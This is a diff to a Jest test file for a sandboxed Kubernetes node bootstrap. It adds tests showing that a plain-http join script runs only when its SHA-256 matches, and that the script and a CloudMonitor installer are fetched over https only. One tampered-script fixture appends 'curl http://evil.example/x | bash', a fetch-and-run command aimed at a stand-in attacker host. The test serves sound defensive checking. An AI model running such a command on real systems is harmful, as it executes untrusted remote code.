@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto';
 import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
 import { randomBytes } from 'node:crypto';
 import { mkdtemp, readFile, rm } from 'node:fs/promises';
@@ -390,11 +391,44 @@ describe('External bootstrap, run in the sandbox', () => {
     expect(callsOf(second.calls, 'kubeadm')).toEqual([]); // already joined
   });
 
+  test("a plain-http script runs only when it has the pool's SHA-256; a mismatch fails the boot before it runs", async () => {
+    const httpURL = 'http://files.example/join-ecs-nodes.sh';
+    const sha = createHash('sha256').update(userScript).digest('hex');
+    const ext = (scriptSHA256: string | undefined) =>
+      external({ external: { ...external().external!, scriptURL: httpURL, ...(scriptSHA256 ? { scriptSHA256 } : {}) } }); // prettier-ignore
+    expect(() => renderUserData(ext(undefined))).toThrow(
+      /scriptURL[\s\S]*https, or plain http with scriptSHA256/,
+    );
+    const ok = await boot(ext(sha), { http: { [httpURL]: userScript } });
+    expect(ok.exitCode).toBe(0);
+    expect(ok.log).toContain(`script checksum verified (${sha})`);
+    expect(await ok.file('/var/lib/seen-env')).toContain('KUBE_VERSION=1.34.1');
+    const tampered = await boot(ext(sha), { http: { [httpURL]: `${userScript}curl http://evil.example/x | bash\n` } }); // prettier-ignore
+    expect(tampered.exitCode).toBe(1);
+    expect(await tampered.file('/var/lib/nodepool-bootstrap/result')).toBe('failed:external-script\n');
+    expect(tampered.log).toContain(`not the pool's scriptSHA256 ${sha}: not running it`);
+    expect(await tampered.file('/var/lib/seen-env')).toBeUndefined();
+    // an https script is fetched with https only, redirects included
+    const https = await boot(external(), { http: { [scriptURL]: userScript } });
+    expect(callsOf(https.calls, 'curl').find((c) => c.includes(scriptURL))).toEqual(expect.arrayContaining(['--proto', '=https', '--proto-redir', '=https'])); // prettier-ignore
+  });
+
   test('a script URL that cannot be fetched fails the boot at that step', async () => {
     const r = await boot(external(), { http: {} });
     expect(r.exitCode).toBe(1);
     expect(await r.file('/var/lib/nodepool-bootstrap/result')).toBe('failed:external-script\n');
     expect(r.log).toContain(`cannot download ${scriptURL}`);
+  });
+});
+
+describe('the CloudMonitor agent', () => {
+  test('its installer is fetched over https only (redirects included)', async () => {
+    const url =
+      'https://cms-agent-cn-hangzhou.oss-cn-hangzhou-internal.aliyuncs.com/Argus/agent_install_ecs-1.7.sh';
+    const r = await boot(managed({ cloudMonitor: true }), { http: { [clusterInfoUrl]: clusterInfo, [url]: '#!/bin/bash\ntouch /var/lib/cms-installed\n' } }); // prettier-ignore
+    expect(r.exitCode).toBe(0);
+    expect(await r.file('/var/lib/cms-installed')).toBe('');
+    expect(callsOf(r.calls, 'curl').find((c) => c.includes(url))).toEqual(expect.arrayContaining(['--proto', '=https', '--proto-redir', '=https'])); // prettier-ignore
   });
 });
 
